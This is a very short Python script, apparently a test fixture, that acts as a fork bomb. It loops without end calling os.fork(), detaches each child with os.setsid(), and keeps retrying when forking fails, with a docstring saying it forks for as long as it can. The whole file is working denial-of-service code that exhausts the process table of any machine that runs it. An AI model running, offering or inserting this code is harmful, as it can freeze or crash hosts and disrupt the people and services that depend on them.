"""It forks for as long as it can from its first line."""

import os

from right import *  # noqa: F403

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        continue
